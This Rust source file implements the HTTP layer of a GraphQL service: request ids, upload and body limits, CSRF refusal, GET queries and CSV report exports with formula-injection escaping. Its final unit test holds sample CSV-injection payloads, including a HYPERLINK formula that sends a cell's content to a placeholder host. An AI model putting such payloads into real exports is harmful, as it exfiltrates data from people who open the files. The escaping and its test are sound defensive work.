//! The HTTP surface: `/graphql` (POST executes; GET runs a query given as `?query=`, upgrades to the
//! subscription socket, or serves GraphiQL), `/healthz`, `/readyz`, `/metrics`, the CSV reports.

use actix_web::http::header;
use actix_web::{web, HttpRequest, HttpResponse};
use futures_util::StreamExt;
use serde_json::json;

use crate::auth::{authenticate, Auth, ClientAddr};
use crate::configuration::Limits;
use crate::error::code_request_errors;
use crate::graphql::QyzmetSchema;
use crate::persisted::{PersistedQueries, Refused, Resolved};
use crate::state::AppState;
use crate::store;

/// Gives every request an id: the client's `X-Request-Id` when it is a short token of letters,
/// digits and dashes, a new random one otherwise. It is echoed in the response header and every
/// log line of the request carries it (a tracing span), so a client's report and the server's
/// logs meet.
pub async fn request_id(
    req: actix_web::dev::ServiceRequest,
    next: actix_web::middleware::Next<impl actix_web::body::MessageBody>,
) -> Result<actix_web::dev::ServiceResponse<impl actix_web::body::MessageBody>, actix_web::Error> {
    use tracing::Instrument;
    let given = req
        .headers()
        .get("x-request-id")
        .and_then(|v| v.to_str().ok())
        .filter(|v| {
            !v.is_empty()
                && v.len() <= 64
                && v.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
        })
        .map(str::to_owned);
    let id = match given {
        Some(id) => id,
        None => crate::auth::token::random_hex(8).unwrap_or_default(),
    };
    let span = tracing::info_span!("request", id = %id, method = %req.method(), path = %req.path());
    let mut res = next.call(req).instrument(span).await?;
    if let Ok(v) = header::HeaderValue::from_str(&id) {
        res.headers_mut()
            .insert(header::HeaderName::from_static("x-request-id"), v);
    }
    Ok(res)
}

/// Registers every route.
pub fn routes(cfg: &mut web::ServiceConfig) {
    cfg.route("/graphql", web::post().to(graphql))
        .route("/graphql", web::get().to(graphiql_or_subscription))
        .route("/healthz", web::get().to(healthz))
        .route("/readyz", web::get().to(readyz))
        .route("/metrics", web::get().to(metrics))
        .configure(report_routes)
        .configure(crate::file_routes::routes)
        .configure(crate::verify::routes)
        .configure(crate::graphiql::routes);
}

fn error_body(code: &str, message: &str) -> serde_json::Value {
    json!({ "errors": [{ "message": message, "extensions": { "code": code } }] })
}

/// How long a multipart request (a file upload) may take to arrive.
pub const UPLOAD_READ_TIMEOUT: std::time::Duration = std::time::Duration::from_secs(120);

async fn graphql(
    schema: web::Data<QyzmetSchema>,
    limits: web::Data<Limits>,
    uploads: web::Data<crate::configuration::FilesSettings>,
    slots: web::Data<crate::multipart::UploadSlots>,
    req: HttpRequest,
    mut payload: web::Payload,
) -> HttpResponse {
    let content_type = req
        .headers()
        .get(header::CONTENT_TYPE)
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    if content_type.starts_with("multipart/form-data") {
        // Who uploads, before a slot or a byte of the body: only a verified bearer token holds
        // one (every upload needs a signed-in caller), and each account at most its share.
        let Some(account) = crate::admission::uploader(&req) else {
            return HttpResponse::Unauthorized()
                .insert_header((header::CONNECTION, "close"))
                .json(error_body(
                    "UNAUTHENTICATED",
                    "sign in to upload files: send Authorization: Bearer <accessToken>",
                ));
        };
        let _slot = match slots.take(&account) {
            Ok(slot) => slot,
            Err(busy) => {
                let why = match busy {
                    crate::multipart::Busy::Node => format!(
                        "this node is reading {} uploads already; try again shortly",
                        uploads.max_concurrent_uploads
                    ),
                    crate::multipart::Busy::Account => format!(
                        "this account has {} uploads under way already; try again when one ends",
                        crate::multipart::MAX_UPLOADS_PER_ACCOUNT
                    ),
                };
                return HttpResponse::ServiceUnavailable()
                    .insert_header((header::RETRY_AFTER, RETRY_AFTER_SECONDS.to_string()))
                    .insert_header((header::CONNECTION, "close"))
                    .json(error_body("SERVICE_UNAVAILABLE", &why));
            }
        };
        return multipart(&schema, &limits, &uploads, &req, payload, content_type).await;
    }
    // Cross-site request forgery (as Apollo Server prevents it): a page on another origin can
    // POST only the CORS-simple types (text/plain, a form) without a preflight; a GraphQL body
    // is JSON, so nothing else is run. (Uploads above need a bearer token, a header that is
    // always preflighted.)
    if !crate::admission::is_json(&content_type) {
        return HttpResponse::BadRequest().json(error_body(
            "CSRF_PREVENTED",
            "send the request as Content-Type: application/json; a body of another type is not \
             run (a page on another origin can send those without the browser asking first)",
        ));
    }
    let max = limits.max_body_bytes;
    let over = || too_large("the request body", max);
    // Refuse on the declared length before reading anything; then count what actually arrives.
    let declared = req
        .headers()
        .get(header::CONTENT_LENGTH)
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.parse::<usize>().ok());
    if declared.is_some_and(|n| n > max) {
        return over();
    }
    // The whole body within the read timeout: a client that stalls is answered and let go.
    let read = async {
        let mut body = web::BytesMut::new();
        while let Some(chunk) = payload.next().await {
            let Ok(chunk) = chunk else {
                return Err(HttpResponse::BadRequest().json(error_body(
                    "BAD_REQUEST",
                    "the request body could not be read",
                )));
            };
            if body.len() + chunk.len() > max {
                return Err(over());
            }
            body.extend_from_slice(&chunk);
        }
        Ok(body)
    };
    let body = match actix_web::rt::time::timeout(limits.body_read_timeout, read).await {
        Ok(Ok(body)) => body,
        Ok(Err(refused)) => return refused,
        Err(_) => {
            return HttpResponse::RequestTimeout()
                .insert_header((header::CONNECTION, "close"))
                .json(error_body(
                    "REQUEST_TIMEOUT",
                    &format!(
                        "the request body did not arrive within {} s",
                        limits.body_read_timeout.as_secs()
                    ),
                ))
        }
    };
    let request: async_graphql::Request = match serde_json::from_slice(&body) {
        Ok(r) => r,
        Err(e) => {
            return HttpResponse::BadRequest().json(error_body(
                "BAD_REQUEST",
                &format!(
                    "expected a JSON object {{\"query\": …, \"variables\": …}}: {}",
                    e
                ),
            ))
        }
    };
    execute(&schema, &limits, &req, request, false).await
}

/// A GraphQL multipart request (files as variables): read by [`crate::multipart::read`], every
/// part bounded and each file spooled to a temporary file, so memory stays bounded; the whole
/// request within [`UPLOAD_READ_TIMEOUT`].
async fn multipart(
    schema: &QyzmetSchema,
    limits: &Limits,
    uploads: &crate::configuration::FilesSettings,
    req: &HttpRequest,
    mut payload: web::Payload,
    content_type: String,
) -> HttpResponse {
    let bounds = crate::multipart::Bounds {
        max_operations_bytes: limits.max_body_bytes,
        max_file_bytes: uploads.max_bytes,
        max_files: uploads.max_per_request,
    };
    let max = bounds.max_body_bytes();
    let declared = req
        .headers()
        .get(header::CONTENT_LENGTH)
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.parse::<usize>().ok());
    if declared.is_some_and(|n| n > max) {
        return too_large("the request body", max);
    }
    // The body travels from actix's (single-threaded) payload to the multipart reader through a
    // small bounded channel.
    let (tx, rx) = async_channel::bounded::<Result<web::Bytes, std::io::Error>>(4);
    actix_web::rt::spawn(async move {
        while let Some(chunk) = payload.next().await {
            let item = chunk.map_err(|e| std::io::Error::other(e.to_string()));
            let stop = item.is_err();
            if tx.send(item).await.is_err() || stop {
                return;
            }
        }
    });
    let received = actix_web::rt::time::timeout(
        UPLOAD_READ_TIMEOUT,
        crate::multipart::read(&content_type, rx, bounds),
    )
    .await;
    use crate::multipart::MultipartError;
    let request = match received {
        Err(_) => {
            return HttpResponse::RequestTimeout()
                .insert_header((header::CONNECTION, "close"))
                .json(error_body(
                    "REQUEST_TIMEOUT",
                    &format!(
                        "the upload did not arrive within {} s",
                        UPLOAD_READ_TIMEOUT.as_secs()
                    ),
                ))
        }
        Ok(Err(MultipartError::TooLarge { what, limit })) => return too_large(&what, limit),
        Ok(Err(MultipartError::Spool(e))) => {
            tracing::warn!(error = %e, "an upload could not be spooled");
            return HttpResponse::ServiceUnavailable()
                .insert_header((header::RETRY_AFTER, RETRY_AFTER_SECONDS.to_string()))
                .insert_header((header::CONNECTION, "close"))
                .json(error_body(
                    "SERVICE_UNAVAILABLE",
                    "the upload could not be stored for a moment; retry shortly",
                ));
        }
        Ok(Err(e)) => {
            return HttpResponse::BadRequest()
                .insert_header((header::CONNECTION, "close"))
                .json(error_body(
                    "BAD_REQUEST",
                    &format!("not a GraphQL multipart request within its bounds: {e}"),
                ))
        }
        Ok(Ok(r)) => r,
    };
    execute(schema, limits, req, request, false).await
}

/// `PAYLOAD_TOO_LARGE` (413) for a request body, a GET query or an upload over a limit: what
/// was too large, and the limit (`extensions.limit`, bytes). The connection closes (the rest of
/// the body is not read).
fn too_large(what: &str, limit: usize) -> HttpResponse {
    HttpResponse::PayloadTooLarge()
        .insert_header((header::CONNECTION, "close"))
        .json(json!({ "errors": [{
            "message": format!("{what} is larger than the limit of {limit} bytes"),
            "extensions": { "code": "PAYLOAD_TOO_LARGE", "limit": limit },
        }] }))
}

/// Gives each coded error a short message for people in the request's language
/// (`extensions.userMessage`, with `extensions.language`); `message` stays the developer's.
fn user_messages(response: &mut async_graphql::Response, language: domain::language::Language) {
    for err in &mut response.errors {
        let Some(ext) = err.extensions.as_mut() else {
            continue;
        };
        let text = match ext.get("code") {
            Some(async_graphql::Value::String(code)) => {
                domain::language::error_message(code, language)
            }
            _ => None,
        };
        if let Some(text) = text {
            ext.set("userMessage", text);
            ext.set("language", language.tag());
        }
    }
}

/// Whether a document holds an operation other than a query (GET may carry queries only).
fn holds_mutation(query: &str) -> bool {
    async_graphql::parser::parse_query(query).is_ok_and(|doc| {
        doc.operations
            .iter()
            .any(|(_, op)| op.node.ty != async_graphql::parser::types::OperationType::Query)
    })
}

/// Runs one GraphQL request (from a POST body or, `get`, a GET query string) and answers it.
async fn execute(
    schema: &QyzmetSchema,
    limits: &Limits,
    req: &HttpRequest,
    mut request: async_graphql::Request,
    get: bool,
) -> HttpResponse {
    let state = req.app_data::<web::Data<AppState>>().cloned();
    // Automatic persisted queries: the text of a known hash, or a new text to register.
    let persisted = req.app_data::<web::Data<PersistedQueries>>();
    let mut register = None;
    if let (Some(pq), Some(state)) = (persisted, &state) {
        match pq.resolve(&state.db, &mut request).await {
            Ok(Resolved::Register { hash }) => register = Some(hash),
            Ok(Resolved::Plain | Resolved::Known) => {}
            Err(Refused::NotFound) => {
                return HttpResponse::Ok().json(error_body(
                    "PERSISTED_QUERY_NOT_FOUND",
                    "PersistedQueryNotFound",
                ))
            }
            Err(Refused::Bad(why)) => {
                return HttpResponse::BadRequest().json(error_body("BAD_REQUEST", &why))
            }
            Err(Refused::Store(e)) => {
                return HttpResponse::ServiceUnavailable()
                    .insert_header((header::RETRY_AFTER, RETRY_AFTER_SECONDS.to_string()))
                    .json(error_body("SERVICE_UNAVAILABLE", &e.to_string()))
            }
        }
    }
    if get && holds_mutation(&request.query) {
        return HttpResponse::MethodNotAllowed()
            .insert_header((header::ALLOW, "POST"))
            .json(error_body(
                "BAD_REQUEST",
                "only queries may be sent with GET; send mutations with POST",
            ));
    }
    let text = register.is_some().then(|| request.query.clone());
    let authorization = req
        .headers()
        .get(header::AUTHORIZATION)
        .and_then(|v| v.to_str().ok());
    let auth = match &state {
        Some(state) => authenticate(state, authorization).await,
        None => Auth::Anonymous,
    };
    let addr = crate::network::client_addr(req);
    let operation = crate::metrics::operation_type(&request.query);
    let started = std::time::Instant::now();
    let language = crate::graphql::language::of_request(req);
    let loaders = state
        .as_ref()
        .map(|s| crate::graphql::loaders::Loaders::new(&s.db));
    let mut request = request;
    if let Some(loaders) = loaders {
        request = request.data(loaders);
    }
    let request = request
        .data(auth)
        .data(ClientAddr(addr))
        .data(crate::graphql::language::RequestLanguage(language));
    let Ok(mut response) =
        actix_web::rt::time::timeout(limits.request_timeout, schema.execute(request)).await
    else {
        crate::metrics::request(operation, "QUERY_TIMEOUT", started.elapsed().as_secs_f64());
        return HttpResponse::ServiceUnavailable()
            .insert_header((header::RETRY_AFTER, RETRY_AFTER_SECONDS.to_string()))
            .json(error_body(
                "QUERY_TIMEOUT",
                &format!(
                    "the request ran longer than {} s and was stopped; a move it carried may \
                     still have been made: read the case before retrying",
                    limits.request_timeout.as_secs()
                ),
            ));
    };
    code_request_errors(&mut response);
    user_messages(&mut response, language);
    // A query is registered once it ran: every error (if any) is a field's, none the request's.
    if let (Some(hash), Some(text), Some(pq), Some(state)) = (register, text, persisted, &state) {
        if response.errors.iter().all(|e| !e.path.is_empty()) {
            if let Err(e) = pq
                .register(&state.db, hash, &text, chrono::Utc::now())
                .await
            {
                tracing::warn!(error = %e, "a persisted query could not be registered");
            }
        }
    }
    let code = response
        .errors
        .first()
        .and_then(|e| e.extensions.as_ref())
        .and_then(|x| x.get("code"))
        .and_then(|c| match c {
            async_graphql::Value::String(s) => Some(s.clone()),
            _ => None,
        })
        .unwrap_or_else(|| "OK".to_owned());
    crate::metrics::request(operation, &code, started.elapsed().as_secs_f64());
    // The database could not be reached: a retryable 503, the session kept.
    let unavailable = response.errors.iter().any(|e| {
        e.extensions
            .as_ref()
            .and_then(|x| x.get("code"))
            .is_some_and(|c| *c == async_graphql::Value::from("SERVICE_UNAVAILABLE"))
    });
    if unavailable {
        return HttpResponse::ServiceUnavailable()
            .insert_header((header::RETRY_AFTER, RETRY_AFTER_SECONDS.to_string()))
            .json(response);
    }
    // Over a public endpoint's rate: HTTP 429, and when to try again.
    if code == "RATE_LIMITED" {
        let wait = response
            .errors
            .iter()
            .find_map(|e| match e.extensions.as_ref()?.get("retryAfter")? {
                async_graphql::Value::Number(n) => n.as_u64(),
                _ => None,
            })
            .unwrap_or(1);
        return HttpResponse::TooManyRequests()
            .insert_header((header::RETRY_AFTER, wait.to_string()))
            .json(response);
    }
    // Locked out: HTTP 429, and when to try again.
    if code == "TOO_MANY_ATTEMPTS" {
        return HttpResponse::TooManyRequests()
            .insert_header((
                header::RETRY_AFTER,
                (crate::store::accounts::LOCK_MINUTES * 60).to_string(),
            ))
            .json(response);
    }
    HttpResponse::Ok().json(response)
}

/// The parameters of a GraphQL GET request.
#[derive(serde::Deserialize)]
struct GetParams {
    /// Absent when a persisted query's hash is sent instead.
    #[serde(default)]
    query: String,
    /// JSON text, e.g. `{"persistedQuery":{"version":1,"sha256Hash":"…"}}`.
    extensions: Option<String>,
    #[serde(rename = "operationName")]
    operation_name: Option<String>,
    /// JSON text.
    variables: Option<String>,
}

async fn get_query(schema: &QyzmetSchema, req: &HttpRequest) -> HttpResponse {
    let bad = |m: &str| HttpResponse::BadRequest().json(error_body("BAD_REQUEST", m));
    let Ok(params) = web::Query::<GetParams>::from_query(req.query_string()) else {
        return bad("expected ?query=…&variables=…&operationName=…");
    };
    let Some(limits) = req.app_data::<web::Data<Limits>>() else {
        return bad("not configured");
    };
    if req.query_string().len() > limits.max_body_bytes {
        return too_large("the query", limits.max_body_bytes);
    }
    let variables = match params.variables.as_deref() {
        Some(v) => match serde_json::from_str::<async_graphql::Variables>(v) {
            Ok(v) => v,
            Err(_) => return bad("variables must be a JSON object"),
        },
        None => async_graphql::Variables::default(),
    };
    let mut request = async_graphql::Request::new(params.query.clone()).variables(variables);
    if let Some(name) = &params.operation_name {
        request = request.operation_name(name.clone());
    }
    if let Some(ext) = params.extensions.as_deref() {
        match serde_json::from_str(ext) {
            Ok(ext) => request.extensions = ext,
            Err(_) => return bad("extensions must be a JSON object"),
        }
    }
    execute(schema, limits, req, request, true).await
}

/// How long a client waits before retrying a `SERVICE_UNAVAILABLE` answer.
pub const RETRY_AFTER_SECONDS: u32 = 2;

/// `GET /graphql`: a WebSocket upgrade (`graphql-transport-ws`) starts subscriptions; anything
/// else gets GraphiQL (from the bundled assets).
async fn graphiql_or_subscription(
    schema: web::Data<QyzmetSchema>,
    state: web::Data<AppState>,
    req: HttpRequest,
    payload: web::Payload,
) -> actix_web::Result<HttpResponse> {
    let upgrade = req
        .headers()
        .get(header::UPGRADE)
        .and_then(|v| v.to_str().ok())
        .is_some_and(|v| v.eq_ignore_ascii_case("websocket"));
    // GraphQL over HTTP: a GET with `?query=` runs a query (never a mutation: those need POST).
    let q = req.query_string();
    if !upgrade && (q.contains("query=") || q.contains("extensions=")) {
        return Ok(get_query(&schema, &req).await);
    }
    if !upgrade {
        return Ok(crate::graphiql::page());
    }
    crate::socket::start(
        schema.get_ref().clone(),
        state.get_ref().clone(),
        &req,
        payload,
    )
}

/// Prometheus metrics (text exposition).
async fn metrics(state: web::Data<AppState>) -> HttpResponse {
    HttpResponse::Ok()
        .content_type("text/plain; version=0.0.4; charset=utf-8")
        .body(crate::metrics::render(&state).await)
}

async fn healthz() -> HttpResponse {
    HttpResponse::Ok().json(json!({ "status": "ok" }))
}

async fn readyz(state: web::Data<AppState>) -> HttpResponse {
    match store::ready(&state.db).await {
        Ok(()) => HttpResponse::Ok().json(json!({ "status": "ready" })),
        Err(why) => HttpResponse::ServiceUnavailable()
            .insert_header((header::RETRY_AFTER, RETRY_AFTER_SECONDS.to_string()))
            .json(json!({ "status": "not ready", "reason": why })),
    }
}

/// CSV downloads of the reports, for analysts who work in spreadsheets: the same filters and
/// scope as GraphQL, as query parameters (`groupBy=REGION,SERVICE&regions=atyrau&from=…&to=…`),
/// UTF-8 with a byte-order mark so that spreadsheet programs keep Kazakh names intact.
pub fn report_routes(cfg: &mut web::ServiceConfig) {
    cfg.route("/reports/cases.csv", web::get().to(cases_csv))
        .route("/reports/steps.csv", web::get().to(steps_csv));
}

type Params = web::Query<std::collections::HashMap<String, String>>;

/// The analyst a report download is for: from a signed link's `token` parameter (removed from
/// `q`, see `crate::links`), or else from the `Authorization` header.
async fn analyst(
    state: &AppState,
    req: &HttpRequest,
    q: &mut std::collections::HashMap<String, String>,
) -> Result<crate::auth::Principal, crate::error::ApiError> {
    use crate::error::ApiError;
    if let Some(token) = q.remove(crate::links::TOKEN_PARAM) {
        let params = q.iter().map(|(k, v)| (k.clone(), v.clone())).collect();
        let subject = crate::links::verify(&state.tokens, req.path(), &params, &token)?;
        return match crate::auth::load_principal(state, subject).await? {
            Some(p) if p.role == domain::identity::Role::Analyst => Ok(p),
            Some(_) => Err(ApiError::Forbidden),
            None => Err(ApiError::Unauthenticated),
        };
    }
    let authorization = req
        .headers()
        .get(header::AUTHORIZATION)
        .and_then(|v| v.to_str().ok());
    match authenticate(state, authorization).await {
        Auth::Principal(p) if p.role == domain::identity::Role::Analyst => Ok(p),
        Auth::Principal(_) => Err(crate::error::ApiError::Forbidden),
        _ => Err(crate::error::ApiError::Unauthenticated),
    }
}

fn report_request(
    q: &std::collections::HashMap<String, String>,
) -> Result<
    (
        crate::graphql::reports::ReportFilter,
        Vec<crate::store::reports::Group>,
    ),
    crate::error::ApiError,
> {
    use crate::error::ApiError;
    use crate::store::reports::Group;
    let bad = |m: String| ApiError::BadUserInput(m);
    let known = [
        "groupBy",
        "regions",
        "services",
        "providers",
        "channels",
        "from",
        "to",
    ];
    if let Some(k) = q.keys().find(|k| !known.contains(&k.as_str())) {
        return Err(bad(format!("unknown parameter {k:?}")));
    }
    // The same text rules as over GraphQL (a NUL reached PostgreSQL and answered INTERNAL).
    if q.values()
        .any(|v| v.chars().any(crate::graphql::guard::forbidden_char) || v.len() > 64 * 1024)
    {
        return Err(bad(
            "parameters must not contain NUL or other control characters".into(),
        ));
    }
    let list = |k: &str| -> Option<Vec<String>> {
        q.get(k).map(|v| {
            v.split(',')
                .map(str::trim)
                .filter(|s| !s.is_empty())
                .map(str::to_owned)
                .collect()
        })
    };
    let groups = list("groupBy")
        .unwrap_or_default()
        .into_iter()
        .map(|g| match g.as_str() {
            "REGION" => Ok(Group::Region),
            "SERVICE" => Ok(Group::Service),
            "PROVIDER" => Ok(Group::Provider),
            "CHANNEL" => Ok(Group::Channel),
            "MONTH" => Ok(Group::Month),
            other => Err(bad(format!("unknown group {other:?}"))),
        })
        .collect::<Result<Vec<_>, _>>()?;
    let channels = list("channels")
        .map(|cs| {
            cs.into_iter()
                .map(|c| {
                    crate::store::cases::parse_channel(&c)
                        .map(Into::into)
                        .ok_or_else(|| bad(format!("unknown channel {c:?}")))
                })
                .collect::<Result<Vec<_>, _>>()
        })
        .transpose()?;
    let time = |k: &str| -> Result<Option<chrono::DateTime<chrono::Utc>>, ApiError> {
        q.get(k)
            .map(|v| {
                chrono::DateTime::parse_from_rfc3339(v)
                    .map(|t| t.with_timezone(&chrono::Utc))
                    .map_err(|_| bad(format!("{k}: expected an RFC 3339 instant")))
            })
            .transpose()
    };
    Ok((
        crate::graphql::reports::ReportFilter {
            regions: list("regions"),
            services: list("services"),
            providers: list("providers"),
            channels,
            from: time("from")?.map(Into::into),
            to: time("to")?.map(Into::into),
        },
        groups,
    ))
}

/// One CSV cell. A text that a spreadsheet would take for a formula (it starts with `=`, `+`,
/// `-`, `@`, a tab or a carriage return) is prefixed with `'` so it stays text (OWASP's advice
/// against CSV injection); numbers are left as they are. Then quoted as RFC 4180 requires.
pub fn csv_field(s: &str) -> String {
    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && s.parse::<f64>().is_err();
    let s = if formula {
        format!("'{s}")
    } else {
        s.to_owned()
    };
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

fn csv_response(lines: Vec<Vec<String>>, name: &str) -> HttpResponse {
    let mut body = String::from("\u{feff}");
    for line in lines {
        body.push_str(
            &line
                .iter()
                .map(|f| csv_field(f))
                .collect::<Vec<_>>()
                .join(","),
        );
        body.push_str("\r\n");
    }
    HttpResponse::Ok()
        .content_type("text/csv; charset=utf-8")
        .insert_header((
            header::CONTENT_DISPOSITION,
            format!("attachment; filename=\"{name}\""),
        ))
        .body(body)
}

fn opt<T: ToString>(v: &Option<T>) -> String {
    v.as_ref().map(ToString::to_string).unwrap_or_default()
}

fn names(
    state: &AppState,
    keys: &crate::store::reports::Keys,
    services: &std::collections::HashMap<String, String>,
) -> (String, String) {
    (
        keys.region
            .as_ref()
            .and_then(|r| state.regions.get(r))
            .map(|r| r.name_kk.clone())
            .unwrap_or_default(),
        keys.service
            .as_ref()
            .and_then(|s| services.get(s))
            .cloned()
            .unwrap_or_default(),
    )
}

async fn service_names(
    state: &AppState,
) -> Result<std::collections::HashMap<String, String>, crate::error::ApiError> {
    Ok(state
        .regulations
        .latest(&state.db, None, None)
        .await?
        .into_iter()
        .map(|s| (s.regulation.service.clone(), s.regulation.name_kk.clone()))
        .collect())
}

const KEY_HEADER: [&str; 7] = [
    "region",
    "region_name_kk",
    "service",
    "service_name_kk",
    "provider",
    "channel",
    "month",
];

async fn cases_csv(state: web::Data<AppState>, req: HttpRequest, q: Params) -> HttpResponse {
    let mut q = q.into_inner();
    let run = async {
        let p = analyst(&state, &req, &mut q).await?;
        let (filter, groups) = report_request(&q)?;
        let rows = crate::graphql::reports::report_rows(&state, &p, filter, &groups).await?;
        let codes = crate::graphql::reports::provider_codes(&state).await?;
        let services = service_names(&state).await?;
        let mut lines = vec![KEY_HEADER
            .iter()
            .chain(&[
                "received",
                "in_progress",
                "completed",
                "completed_on_time",
                "completed_late",
                "refused_at_intake",
                "refused_with_reasons",
                "returned_unclaimed",
                "overdue_now",
                "on_time_rate",
                "median_working_days",
                "p90_working_days",
                "awaiting_collection",
            ])
            .map(|s| (*s).to_owned())
            .collect::<Vec<_>>()];
        for r in rows {
            let (region_kk, service_kk) = names(&state, &r.keys, &services);
            lines.push(vec![
                opt(&r.keys.region),
                region_kk,
                opt(&r.keys.service),
                service_kk,
                opt(&r.keys.provider.and_then(|id| codes.get(&id).cloned())),
                opt(&r.keys.channel),
                opt(&r.keys.month),
                r.received.to_string(),
                r.in_progress.to_string(),
                r.completed.to_string(),
                r.completed_on_time.to_string(),
                r.completed_late.to_string(),
                r.refused_at_intake.to_string(),
                r.refused_with_reasons.to_string(),
                r.returned_unclaimed.to_string(),
                r.overdue_now.to_string(),
                opt(&r.on_time_rate()),
                opt(&r.median_working_days),
                opt(&r.p90_working_days),
                r.awaiting_collection.to_string(),
            ]);
        }
        Ok::<_, crate::error::ApiError>(lines)
    };
    match run.await {
        Ok(lines) => csv_response(lines, "qyzmet-report.csv"),
        Err(e) => e.into_http(),
    }
}

async fn steps_csv(state: web::Data<AppState>, req: HttpRequest, q: Params) -> HttpResponse {
    let mut q = q.into_inner();
    let run = async {
        let p = analyst(&state, &req, &mut q).await?;
        let (filter, groups) = report_request(&q)?;
        let rows = crate::graphql::reports::step_rows(&state, &p, filter, &groups).await?;
        let codes = crate::graphql::reports::provider_codes(&state).await?;
        let services = service_names(&state).await?;
        let mut lines = vec![["mailbox", "stage"]
            .iter()
            .chain(KEY_HEADER.iter())
            .chain(&["steps", "late", "median_share_used", "p90_share_used"])
            .map(|s| (*s).to_owned())
            .collect::<Vec<_>>()];
        for r in rows {
            let (region_kk, service_kk) = names(&state, &r.keys, &services);
            lines.push(vec![
                r.mailbox.clone(),
                r.stage.clone(),
                opt(&r.keys.region),
                region_kk,
                opt(&r.keys.service),
                service_kk,
                opt(&r.keys.provider.and_then(|id| codes.get(&id).cloned())),
                opt(&r.keys.channel),
                opt(&r.keys.month),
                r.steps.to_string(),
                r.late.to_string(),
                opt(&r.median_share_used),
                opt(&r.p90_share_used),
            ]);
        }
        Ok::<_, crate::error::ApiError>(lines)
    };
    match run.await {
        Ok(lines) => csv_response(lines, "qyzmet-steps.csv"),
        Err(e) => e.into_http(),
    }
}

#[cfg(test)]
mod tests {
    use super::csv_field;

    #[test]
    fn a_cell_a_spreadsheet_would_run_stays_text() {
        assert_eq!(
            csv_field("=HYPERLINK(\"http://x\"&A2,\"open\")"),
            "\"'=HYPERLINK(\"\"http://x\"\"&A2,\"\"open\"\")\""
        );
        for f in ["+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
            assert!(
                csv_field(f).trim_start_matches('"').starts_with('\''),
                "{f}"
            );
        }
        assert_eq!(csv_field("-1"), "-1");
        assert_eq!(csv_field("0.75"), "0.75");
        assert_eq!(csv_field("Атырау"), "Атырау");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
    }
}
